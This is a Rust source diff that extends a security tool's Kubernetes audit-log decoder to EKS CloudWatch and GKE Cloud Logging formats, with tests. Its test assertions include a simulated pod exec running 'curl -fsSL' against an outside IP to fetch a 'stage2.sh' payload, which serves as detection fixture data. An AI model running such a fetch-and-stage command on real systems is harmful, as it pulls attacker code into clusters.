@@ -1,6 +1,9 @@
 //! Kubernetes API server audit events (`audit.k8s.io/v1` and `v1beta1`), one per line
-//! or unwrapped from an `EventList` webhook batch by the stream, and the AKS
-//! diagnostic-log wrapper that carries the event as a JSON string in `properties.log`.
+//! or unwrapped from an `EventList` webhook batch by the stream, and as the managed
+//! services deliver them: AKS diagnostic logs (the event as a JSON string in
+//! `properties.log`), EKS through CloudWatch Logs (a string in `message`, one per log
+//! event of a subscription batch or an export), and GKE's Cloud Logging entries (the
+//! event rewritten as a Cloud Audit Log with `serviceName` `k8s.io`).
 //!
 //! The audit log is the only source that sees what a pod *asked* for (its images and
 //! pull policies) before any node acts on it, and who asked. What pullwatch takes:
@@ -55,12 +58,109 @@ struct Wire<'a> {
     stage_timestamp: Option<Text<'a>>,
     #[serde(borrow)]
     request_received_timestamp: Option<Text<'a>>,
-    /// v1beta1 only.
-    #[serde(borrow)]
-    timestamp: Option<Text<'a>>,
+    /// v1beta1 and GKE (RFC 3339); a CloudWatch log event's is epoch ms, not read.
+    #[serde(borrow, default)]
+    timestamp: Stamp<'a>,
     /// The AKS wrapper; absent on a bare audit event.
     #[serde(borrow)]
     properties: Option<AksProperties<'a>>,
+    /// A CloudWatch Logs event (EKS): the audit event as a string.
+    #[serde(borrow)]
+    message: Option<Text<'a>>,
+    /// A Cloud Logging entry (GKE): the audit event rewritten as a Cloud Audit Log.
+    #[serde(borrow)]
+    proto_payload: Option<GkePayload<'a>>,
+    #[serde(borrow)]
+    operation: Option<GkeOperation<'a>>,
+    #[serde(borrow)]
+    insert_id: Option<Text<'a>>,
+}
+
+/// A `timestamp` that is text when it is an audit event's or a Cloud Logging entry's,
+/// and a number (epoch ms) in a CloudWatch log event, which carries the time in the
+/// event it wraps.
+#[derive(Default)]
+struct Stamp<'a>(Option<Text<'a>>);
+
+impl<'de: 'a, 'a> Deserialize<'de> for Stamp<'a> {
+    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
+        struct V;
+        impl<'de> serde::de::Visitor<'de> for V {
+            type Value = Stamp<'de>;
+            fn expecting(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
+                f.write_str("a timestamp")
+            }
+            fn visit_borrowed_str<E: serde::de::Error>(self, v: &'de str) -> Result<Stamp<'de>, E> {
+                Ok(Stamp(Some(Text::from(v))))
+            }
+            fn visit_str<E: serde::de::Error>(self, v: &str) -> Result<Stamp<'de>, E> {
+                Ok(Stamp(Some(Text::from(v.to_string()))))
+            }
+            fn visit_i64<E: serde::de::Error>(self, _: i64) -> Result<Stamp<'de>, E> {
+                Ok(Stamp(None))
+            }
+            fn visit_u64<E: serde::de::Error>(self, _: u64) -> Result<Stamp<'de>, E> {
+                Ok(Stamp(None))
+            }
+            fn visit_f64<E: serde::de::Error>(self, _: f64) -> Result<Stamp<'de>, E> {
+                Ok(Stamp(None))
+            }
+            fn visit_unit<E: serde::de::Error>(self) -> Result<Stamp<'de>, E> {
+                Ok(Stamp(None))
+            }
+        }
+        d.deserialize_any(V)
+    }
+}
+
+#[derive(Deserialize)]
+#[serde(rename_all = "camelCase")]
+struct GkePayload<'a> {
+    #[serde(borrow)]
+    service_name: Option<Text<'a>>,
+    #[serde(borrow)]
+    method_name: Option<Text<'a>>,
+    #[serde(borrow)]
+    resource_name: Option<Text<'a>>,
+    #[serde(borrow)]
+    authentication_info: Option<GkeAuth<'a>>,
+    #[serde(borrow)]
+    request: Option<&'a RawValue>,
+    #[serde(borrow)]
+    response: Option<&'a RawValue>,
+    status: Option<ResponseStatus>,
+}
+
+#[derive(Deserialize)]
+#[serde(rename_all = "camelCase")]
+struct GkeAuth<'a> {
+    #[serde(borrow)]
+    principal_email: Option<Text<'a>>,
+}
+
+#[derive(Deserialize)]
+struct GkeOperation<'a> {
+    #[serde(borrow)]
+    id: Option<Text<'a>>,
+}
+
+/// `pods/exec` options as GKE logs them in the request (`kubectl exec` puts the same
+/// in the query string of a native audit event's `requestURI`).
+#[derive(Deserialize)]
+struct ExecOptions<'a> {
+    #[serde(borrow)]
+    command: Option<OneOrMany<'a>>,
+    #[serde(borrow)]
+    container: Option<Text<'a>>,
+}
+
+#[derive(Deserialize)]
+#[serde(untagged)]
+enum OneOrMany<'a> {
+    #[serde(borrow)]
+    One(Text<'a>),
+    #[serde(borrow)]
+    Many(Vec<Text<'a>>),
 }
 
 #[derive(Deserialize)]
@@ -186,20 +286,123 @@ struct JsonPatchOp<'a> {
 pub fn decode_json(text: &str, ctx: &RecordCtx, out: &mut Vec<Event>) -> Result<(), DecodeError> {
     let w: Wire = serde_json::from_str(text)?;
     if w.audit_id.is_none() {
+        // AKS and EKS (through CloudWatch Logs): the whole audit event is a string; it
+        // is decoded like a bare line.
         if let Some(log) = w.properties.as_ref().and_then(|p| p.log.as_deref()) {
-            // AKS: the whole audit event is a string; it is decoded like a bare line.
-            let inner: Wire = serde_json::from_str(log).map_err(|e| {
-                DecodeError::Invalid(format!("properties.log is not an audit event: {e}"))
-            })?;
-            if inner.properties.is_some() && inner.audit_id.is_none() {
-                return Err(DecodeError::Invalid(
-                    "properties.log wraps another wrapper".into(),
-                ));
-            }
-            return decode_event(inner, ctx, out);
+            return decode_event(unwrap_string(log, "properties.log")?, ctx, out);
+        }
+        if let Some(msg) = w.message.as_deref() {
+            return decode_event(unwrap_string(msg, "message")?, ctx, out);
+        }
+        if w.proto_payload.is_some() {
+            return decode_gke(w, ctx, out);
         }
     }
     decode_event(w, ctx, out)
+}
+
+/// The audit event a managed service's wrapper carries as a JSON string. One level
+/// only: a wrapper inside a wrapper is no service's output.
+fn unwrap_string<'a>(s: &'a str, field: &str) -> Result<Wire<'a>, DecodeError> {
+    let inner: Wire = serde_json::from_str(s)
+        .map_err(|e| DecodeError::Invalid(format!("{field} is not an audit event: {e}")))?;
+    if inner.audit_id.is_none()
+        && (inner.properties.is_some() || inner.message.is_some() || inner.proto_payload.is_some())
+    {
+        return Err(DecodeError::Invalid(format!(
+            "{field} wraps another wrapper"
+        )));
+    }
+    Ok(inner)
+}
+
+/// GKE writes each audit event as a Cloud Logging entry: the verb ends `methodName`
+/// (`io.k8s.core.v1.pods.exec.create`), the object is `resourceName`
+/// (`core/v1/namespaces/NS/pods/NAME/SUBRESOURCE`), the request and response objects
+/// are `request` and `response`, and the entry is logged once, when the request
+/// completed (`operation.id` is its audit id). The entry is rebuilt as the audit event
+/// it was, so it yields exactly what the same request audited natively would.
+fn decode_gke<'a>(
+    mut w: Wire<'a>,
+    ctx: &RecordCtx,
+    out: &mut Vec<Event>,
+) -> Result<(), DecodeError> {
+    let Some(p) = w.proto_payload.take() else {
+        return Err(DecodeError::Missing("protoPayload"));
+    };
+    match p.service_name.as_deref() {
+        Some("k8s.io") => {}
+        Some(other) => {
+            return Err(DecodeError::Invalid(format!(
+                "protoPayload.serviceName {:?} is not k8s.io",
+                truncate(other, 64)
+            )))
+        }
+        None => return Err(DecodeError::Missing("protoPayload.serviceName")),
+    }
+    let method = p
+        .method_name
+        .as_deref()
+        .ok_or(DecodeError::Missing("protoPayload.methodName"))?;
+    let verb = method
+        .strip_prefix("io.k8s.")
+        .and_then(|m| m.rsplit_once('.'))
+        .map(|(_, v)| v)
+        .filter(|v| !v.is_empty())
+        .ok_or_else(|| {
+            DecodeError::Invalid(format!(
+                "protoPayload.methodName {:?} is not io.k8s.<group>.<version>.<resource>.<verb>",
+                truncate(method, 80)
+            ))
+        })?;
+    let resource_name = p.resource_name.as_deref().unwrap_or("");
+    let object_ref = gke_object_ref(resource_name);
+    w.audit_id = w.operation.take().and_then(|o| o.id).or(w.insert_id.take());
+    if w.audit_id.as_deref().is_none_or(str::is_empty) {
+        return Err(DecodeError::Missing("operation.id"));
+    }
+    w.stage = Some(Text::from("ResponseComplete"));
+    w.verb = Some(Text::from(verb.to_string()));
+    w.user = p.authentication_info.map(|a| User {
+        username: a.principal_email,
+    });
+    w.object_ref = object_ref;
+    w.request_object = p.request;
+    w.response_object = p.response;
+    // A gRPC status: 0 (or none) is success, anything else a refused request, which
+    // changed nothing.
+    if p.status.and_then(|s| s.code).is_some_and(|c| c != 0) {
+        event_time(&w)?;
+        return Ok(());
+    }
+    decode_event(w, ctx, out)
+}
+
+/// `core/v1/namespaces/NS/pods/NAME/SUB` (or a cluster-scoped `group/version/RES/NAME`)
+/// as an objectRef; the core group is `core` here and empty in an audit event.
+fn gke_object_ref(resource_name: &str) -> Option<ObjectRef<'static>> {
+    let mut seg = resource_name.split('/');
+    let group = seg.next().filter(|g| !g.is_empty())?;
+    let _version = seg.next()?;
+    let mut rest: Vec<&str> = seg.collect();
+    let mut namespace = None;
+    if rest.len() >= 2 && rest[0] == "namespaces" {
+        namespace = Some(rest[1]);
+        rest.drain(..2);
+    }
+    let text = |s: Option<&&str>| {
+        s.filter(|s| !s.is_empty())
+            .map(|s| Text::from(s.to_string()))
+    };
+    Some(ObjectRef {
+        resource: text(rest.first()),
+        namespace: text(namespace.as_ref()),
+        name: text(rest.get(1)),
+        api_group: Some(Text::from(
+            if group == "core" { "" } else { group }.to_string(),
+        )),
+        subresource: text(rest.get(2)),
+    })
 }
 
 fn decode_event(w: Wire, ctx: &RecordCtx, out: &mut Vec<Event>) -> Result<(), DecodeError> {
@@ -299,7 +502,7 @@ fn event_time(w: &Wire) -> Result<Ts, DecodeError> {
     let raw = [
         &w.stage_timestamp,
         &w.request_received_timestamp,
-        &w.timestamp,
+        &w.timestamp.0,
     ]
     .into_iter()
     .find_map(|t| t.as_deref().filter(|s| !s.is_empty()))
@@ -530,22 +733,36 @@ fn json_patch_containers<'a>(op: &JsonPatchOp<'a>) -> Option<Vec<Container<'a>>>
 /// no command and is not an exec. An exec without a command would have been refused,
 /// so it emits nothing.
 fn exec(rec: &Record) -> Result<Option<EventKind>, DecodeError> {
-    let uri = rec
-        .w
-        .request_uri
-        .as_deref()
-        .ok_or(DecodeError::Missing("requestURI"))?;
-    let query = uri.split_once('?').map_or("", |(_, q)| q);
     let mut argv = Vec::new();
     let mut container = None;
-    for pair in query.split('&') {
-        let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
-        match url_decode(k).as_str() {
-            "command" => argv.push(url_decode(v)),
-            "container" if container.is_none() => {
-                container = Some(url_decode(v)).filter(|s| !s.is_empty())
+    match rec.w.request_uri.as_deref() {
+        Some(uri) => {
+            let query = uri.split_once('?').map_or("", |(_, q)| q);
+            for pair in query.split('&') {
+                let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
+                match url_decode(k).as_str() {
+                    "command" => argv.push(url_decode(v)),
+                    "container" if container.is_none() => {
+                        container = Some(url_decode(v)).filter(|s| !s.is_empty())
+                    }
+                    _ => {}
+                }
             }
-            _ => {}
+        }
+        // GKE logs no URI; the exec options are the request object.
+        None => {
+            let Some(raw) = rec.w.request_object else {
+                return Err(DecodeError::Missing("requestURI"));
+            };
+            let o: ExecOptions = serde_json::from_str(raw.get()).map_err(|e| {
+                DecodeError::Invalid(format!("request is not pod exec options: {e}"))
+            })?;
+            match o.command {
+                Some(OneOrMany::One(c)) => argv.push(c.0.into_owned()),
+                Some(OneOrMany::Many(cs)) => argv.extend(cs.into_iter().map(|c| c.0.into_owned())),
+                None => {}
+            }
+            container = opt_string(&o.container);
         }
     }
     let Some(exe) = argv.first().cloned() else {
@@ -1094,6 +1311,165 @@ mod tests {
     }
 
     /// Falco's v1beta1 minikube captures and the AKS-wrapped v1 sample.
+    #[test]
+    fn gke_cloud_logging_entries_decode_as_the_audit_events_they_were() {
+        let (ev, st) = stream(&fixture("gke-cloud-logging.jsonl"));
+        assert!(st.skipped.is_empty(), "{:?}", st.skipped);
+        // Every entry is Kubernetes audit, none is taken as a Cloud Audit Log of
+        // Compute Engine; the read and the refused exec give nothing.
+        assert_eq!(st.formats[&Format::K8sAudit].records, 6);
+        assert!(!st.formats.contains_key(&Format::GcpAudit));
+        assert_eq!(ev.len(), 4, "{ev:?}");
+        let lines: Vec<u64> = ev.iter().map(|e| e.source.line).collect();
+        assert_eq!(lines, [1, 2, 3, 4]);
+        assert!(ev.iter().all(|e| e.source.format == Format::K8sAudit));
+        assert_eq!(
+            ev[0].dedupe.as_deref(),
+            Some("k8s-audit:6b1c1a53-2f0e-4b7a-9a61-0d5e3c1f7a01")
+        );
+        assert_eq!(
+            ev[0].time,
+            Ts::parse_rfc3339("2026-11-20T09:00:00.1Z").unwrap()
+        );
+        let EventKind::PodCreate(p) = &ev[0].kind else {
+            panic!("{:?}", ev[0].kind)
+        };
+        assert_eq!(
+            (p.namespace.as_str(), p.pod.as_str()),
+            ("default", "report-gen-7d9f8-x2kqp")
+        );
+        assert_eq!(
+            p.actor.as_deref(),
+            Some("system:serviceaccount:kube-system:replicaset-controller")
+        );
+        assert_eq!(p.containers.len(), 1);
+        assert_eq!(
+            p.containers[0].image.to_string(),
+            "docker.io/kitty0x/toolbox:latest"
+        );
+        assert_eq!(p.containers[0].pull_policy.as_deref(), Some("Always"));
+        let EventKind::PodBinding(b) = &ev[1].kind else {
+            panic!("{:?}", ev[1].kind)
+        };
+        assert_eq!(
+            (b.namespace.as_str(), b.pod.as_str(), b.node.as_str()),
+            (
+                "default",
+                "report-gen-7d9f8-x2kqp",
+                "gke-prod-1-default-pool-3f2a1b0c-x7k2"
+            )
+        );
+        let EventKind::ContainerAddress(a) = &ev[2].kind else {
+            panic!("{:?}", ev[2].kind)
+        };
+        assert_eq!(a.ips, ["10.52.1.23".parse::<IpAddr>().unwrap()]);
+        assert_eq!(a.container.pod.as_deref(), Some("report-gen-7d9f8-x2kqp"));
+        assert_eq!(
+            a.container.host.as_deref(),
+            Some("gke-prod-1-default-pool-3f2a1b0c-x7k2")
+        );
+        let EventKind::Process(x) = &ev[3].kind else {
+            panic!("{:?}", ev[3].kind)
+        };
+        assert_eq!(
+            (&*x.exe, x.cmdline.as_str()),
+            ("curl", "curl -fsSL http://198.51.100.23/stage2.sh")
+        );
+        assert_eq!(x.user.as_deref(), Some("dev@acme.example"));
+        let Placement::Container(c) = &x.placement else {
+            panic!()
+        };
+        assert_eq!(
+            (c.name.as_deref(), c.pod.as_deref(), c.namespace.as_deref()),
+            (
+                Some("worker"),
+                Some("report-gen-7d9f8-x2kqp"),
+                Some("default")
+            )
+        );
+    }
+
+    #[test]
+    fn gke_entries_that_do_not_hold_an_audit_event_are_errors() {
+        let entry = |payload: &str| {
+            format!(
+                r#"{{"insertId":"i-1","operation":{{"id":"i-1"}},"protoPayload":{{{payload}}},"timestamp":"2026-11-20T09:00:00Z"}}"#
+            )
+        };
+        let err = |payload: &str| {
+            let mut out = Vec::new();
+            let r = decode_json(&entry(payload), &ctx(), &mut out);
+            assert!(out.is_empty());
+            r.unwrap_err()
+        };
+        assert!(matches!(
+            err(r#""serviceName":"compute.googleapis.com","methodName":"v1.compute.instances.insert""#),
+            DecodeError::Invalid(m) if m.contains("not k8s.io")
+        ));
+        assert_eq!(
+            err(r#""methodName":"io.k8s.core.v1.pods.create""#),
+            DecodeError::Missing("protoPayload.serviceName")
+        );
+        assert!(matches!(
+            err(r#""serviceName":"k8s.io","methodName":"pods.create","resourceName":"core/v1/namespaces/a/pods/p""#),
+            DecodeError::Invalid(m) if m.contains("methodName")
+        ));
+        // A pod create whose request is not a pod, as in a native audit event.
+        assert!(matches!(
+            err(r#""serviceName":"k8s.io","methodName":"io.k8s.core.v1.pods.create","resourceName":"core/v1/namespaces/a/pods/p","request":[1]"#),
+            DecodeError::Invalid(m) if m.contains("not a Pod")
+        ));
+        // An exec without options names no command: nothing, as natively.
+        let mut out = Vec::new();
+        decode_json(
+            &entry(r#""serviceName":"k8s.io","methodName":"io.k8s.core.v1.pods.exec.create","resourceName":"core/v1/namespaces/a/pods/p/exec","request":{"command":"id"}"#),
+            &ctx(),
+            &mut out,
+        )
+        .unwrap();
+        let EventKind::Process(x) = &out[0].kind else {
+            panic!()
+        };
+        assert_eq!(x.cmdline, "id");
+        assert_eq!(out[0].dedupe.as_deref(), Some("k8s-audit:i-1"));
+    }
+
+    #[test]
+    fn eks_audit_through_cloudwatch_logs() {
+        let (ev, st) = stream(&fixture("eks-cloudwatch.json"));
+        assert!(st.skipped.is_empty(), "{:?}", st.skipped);
+        // Two log events in the batch; the health check holds none.
+        assert_eq!(st.formats[&Format::K8sAudit].records, 2);
+        assert_eq!(ev.len(), 2);
+        assert!(ev.iter().all(|e| e.source.line == 1));
+        let EventKind::PodCreate(p) = &ev[0].kind else {
+            panic!("{:?}", ev[0].kind)
+        };
+        assert_eq!(p.pod, "report-gen-7d9f8-x2kqp");
+        let EventKind::PodBinding(b) = &ev[1].kind else {
+            panic!("{:?}", ev[1].kind)
+        };
+        assert_eq!(b.node, "ip-10-0-3-17.eu-west-1.compute.internal");
+        let (ev, st) = stream(&fixture("eks-exported.jsonl"));
+        assert!(st.skipped.is_empty(), "{:?}", st.skipped);
+        assert_eq!(st.formats[&Format::K8sAudit].records, 1);
+        let EventKind::Process(x) = &ev[0].kind else {
+            panic!("{:?}", ev[0].kind)
+        };
+        assert_eq!(x.cmdline, "curl -fsSL http://198.51.100.23/stage2.sh");
+        assert_eq!(
+            ev[0].dedupe.as_deref(),
+            Some("k8s-audit:7d8c9b0a-1928-4374-8655-443322110099")
+        );
+        // A message that is not an audit event is a located skip of k8s-audit.
+        let mut out = Vec::new();
+        let bad = r#"{"timestamp":1,"message":"{\"auditID\":1}"}"#;
+        assert!(matches!(
+            decode_json(bad, &ctx(), &mut out),
+            Err(DecodeError::Invalid(m)) if m.starts_with("message is not an audit event")
+        ));
+    }
+
     #[test]
     fn shared_samples() {
         let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/samples/k8s-audit");
